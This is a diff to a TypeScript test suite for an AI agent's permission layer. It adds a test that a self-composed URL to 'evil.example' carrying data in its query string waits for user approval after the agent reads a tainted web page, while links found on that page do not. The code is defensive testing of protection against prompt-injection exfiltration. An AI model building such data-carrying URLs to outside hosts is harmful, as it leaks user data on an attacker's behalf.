@@ -11,7 +11,7 @@ import type { Taint } from "../core/taint.ts";
 import { defineTool, type Tool, type ToolContext, type ToolEffect } from "../core/tool.ts";
 import type { Step } from "../core/turn.ts";
 import { TurnInterrupted } from "./interrupt.ts";
-import { openPermit } from "./permit.ts";
+import { openPermit, type Permit } from "./permit.ts";
 import { runTools } from "./run-tools.ts";
 
 const turn = turnOf();
@@ -44,12 +44,20 @@ interface SetUp {
   readonly policy?: MemoryPolicy;
   /** Whose words the turn began with. */
   readonly taints?: readonly Taint[];
+  /** Of a turn with several steps. */
+  readonly permit?: Permit;
 }
+
+const permitFor = (policy: MemoryPolicy, taints: readonly Taint[]): Permit => {
+  const origins = { taints, turnIds: [], upTo: null };
+  const lease = { turnId: turn.id, generation: 1 };
+  return openPermit(policy, turn, lease, { origins: () => origins, said: () => [] });
+};
 
 /** Runs the calls of one step, and tells what happened in which order. */
 async function run(calls: readonly ToolCall[], setUp: SetUp) {
   const { policy = freePolicy(), taints = [] } = setUp;
-  const origins = { taints, turnIds: [], upTo: null };
+  const { permit = permitFor(policy, taints) } = setUp;
   const { tools, earlier = [], counts = new Map(), signal = new AbortController().signal } = setUp;
   const memory = createMemorySteps(earlier);
   const events: TurnEvent[] = [];
@@ -78,7 +86,7 @@ async function run(calls: readonly ToolCall[], setUp: SetUp) {
     fault: noFault,
     elapsedMs: () => 0,
     maxToolResultChars: 400,
-    permit: openPermit(policy, turn, { turnId: turn.id, generation: 1 }, () => origins),
+    permit,
     watch: (event: TurnEvent) => void events.push(event),
   };
   const at = {
@@ -323,6 +331,30 @@ const PAGE: Taint = { source: "web", name: "evil.example" };
 const reading = (text: string, taints: readonly Taint[]): Tool => ({
   ...tool("look", "read", say),
   run: async () => ({ text, taints }),
+});
+
+const opening: Tool = {
+  ...tool("open", "read", say),
+  opens: (input) => [(input as { readonly text: string }).text],
+};
+
+test("an address that nobody gave waits for a click once words of others were read, and its page's links do not", async () => {
+  const policy = freePolicy();
+  const links = ["https://evil.example/next"];
+  const look: Tool = { ...reading("", []), run: async () => ({ text: "", taints: [PAGE], links }) };
+  const made = call("open", { text: "https://evil.example/next?d=words" }, "made");
+  const tools = [look, opening];
+
+  const found = call("open", { text: "https://evil.example/next" }, "found");
+  const permit = permitFor(policy, []);
+
+  const before = await run([made], { tools, permit });
+  await run([call("look")], { tools, permit });
+  const { answers } = await run([found, made], { tools, permit });
+
+  expect(before.answers[0]?.text).toBe("https://evil.example/next?d=words");
+  expect(policy.asked).toMatchObject([{ tool: "open", effect: "read", taints: [PAGE] }]);
+  expect(answers.map(({ text }) => text.slice(0, 8))).toEqual(["https://", "Not done"]);
 });
 
 test("a call that waits for a click is not run, begins as nothing that may have happened, and is kept", async () => {
